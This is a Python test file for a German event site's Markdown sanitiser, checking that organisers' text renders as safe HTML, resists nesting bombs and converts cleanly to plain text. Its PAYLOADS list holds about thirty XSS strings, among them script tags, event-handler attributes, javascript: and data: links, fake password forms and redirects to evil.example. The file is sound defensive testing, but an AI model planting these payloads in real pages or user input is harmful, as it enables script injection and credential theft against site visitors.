"""Organisers' Markdown comes out as safe HTML (bad inputs 55 and 56)."""

import time

import pytest
from bs4 import BeautifulSoup
from hypothesis import given
from hypothesis import strategies as st

from nextevents.ground.markdown import as_html, as_text

ALLOWED = {"p", "br", "strong", "em", "ul", "ol", "li", "h2", "h3", "h4", "a", "blockquote", "code", "pre", "hr"}
PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script href='https://evil.example/x.js'/></svg>",
    "<a href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    '[x](https://a.example "\\" onmouseover=alert(1) x=\\"")',
    "<javascript:alert(1)>",
    "![x](https://evil.example/pixel.gif)",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "<style>body{display:none}</style>",
    "<p style='position:fixed'>x</p>",
    "<form action='https://evil.example'><input name=password></form>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<iframe src='https://evil.example'></iframe>",
    "<object data='x'></object><embed src='x'>",
    "<div id='csrf_token' name='body'>x</div>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    "# <img src=x onerror=alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    "<x onclick=alert(1) hx-get='/konto/' data-hx-on='x'>",
]


def only_safe(html: str) -> bool:
    tags = BeautifulSoup(html, "html.parser").select("*")
    addresses = [tag["href"] for tag in tags if tag.has_attr("href")]
    return (
        {tag.name for tag in tags} <= ALLOWED
        and {name for tag in tags for name in tag.attrs} <= {"href", "title", "rel"}
        and all(address.split(":")[0].lower() in {"http", "https", "mailto"} for address in addresses)
    )


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_that_runs_loads_or_dresses_comes_through(payload):
    assert only_safe(as_html(payload))


@given(st.lists(st.sampled_from([*PAYLOADS, "\n", "> ", "- ", "**", "`", '"', "'", "<", ">", "](", "\\"]), max_size=8))
def test_nor_does_any_mixture_of_it(pieces):
    assert only_safe(as_html("".join(pieces)))


def test_raw_html_is_shown_as_it_was_typed():
    assert as_html("<b>x</b>") == "<p>&lt;b&gt;x&lt;/b&gt;</p>\n"


def test_a_line_that_begins_with_a_date_keeps_its_number():
    assert as_html("24. Dezember") == '<ol start="24">\n<li>Dezember</li>\n</ol>\n'


def test_headings_begin_at_level_two_and_the_rest_is_plain():
    text = (
        "# Programm\n\n## Vormittag\n\n- **9 Uhr** Beginn\n"
        '- *danach* [Karte](https://karte.example "Weg")\n\n> Bis bald'
    )

    assert as_html(text) == (
        "<h2>Programm</h2>\n<h2>Vormittag</h2>\n<ul>\n<li><strong>9 Uhr</strong> Beginn</li>\n"
        '<li><em>danach</em> <a href="https://karte.example" title="Weg" rel="noopener nofollow">Karte</a></li>\n'
        "</ul>\n<blockquote>\n<p>Bis bald</p>\n</blockquote>\n"
    )


def test_an_address_of_mail_may_be_a_link_and_bare_addresses_are_not_made_links():
    assert as_html("[Ada](mailto:ada@amt.example)") == (
        '<p><a href="mailto:ada@amt.example" rel="noopener nofollow">Ada</a></p>\n'
    )
    assert "<a" not in as_html("https://evil.example")


@pytest.mark.parametrize(
    "bomb", [5_000 * "> ", 2_500 * "[", 2_500 * "[x](", 5_000 * "*a ", 1_500 * "<div>", 5_000 * "- "]
)
def test_deep_nesting_takes_no_time(bomb):
    began = time.monotonic()
    as_html(bomb)

    assert time.monotonic() - began < 2


@pytest.mark.parametrize(
    ("typed", "said"),
    [
        ("Ein *Satz*.\n\nNoch einer.", "Ein Satz.\n\nNoch einer."),
        ("# Kopf\nText", "Kopf\n\nText"),
        ("- eins\n- zwei\n\nDanach", "- eins\n- zwei\n\nDanach"),
        ("3. drei\n4. vier", "3. drei\n4. vier"),
        ("- außen\n  - innen", "- außen\n  - innen"),
        (
            "[Plan](https://x.example/plan) und <https://x.example>",
            "Plan (https://x.example/plan) und https://x.example",
        ),
        ("[x](javascript:alert(1)) <b>fett</b>", "[x](javascript:alert(1)) <b>fett</b>"),
        ("```\nso   wie es ist\n```", "so   wie es ist"),
        ("eins  \nzwei\n\n---", "eins\nzwei\n\n---"),
        ("{{7*7}} %s ${x}", "{{7*7}} %s ${x}"),
        ("wort " * 30, ("wort " * 15).strip() + "\n" + ("wort " * 15).strip()),
        ("", ""),
    ],
)
def test_as_text_it_says_the_same_in_short_lines(typed, said):
    assert as_text(typed) == said
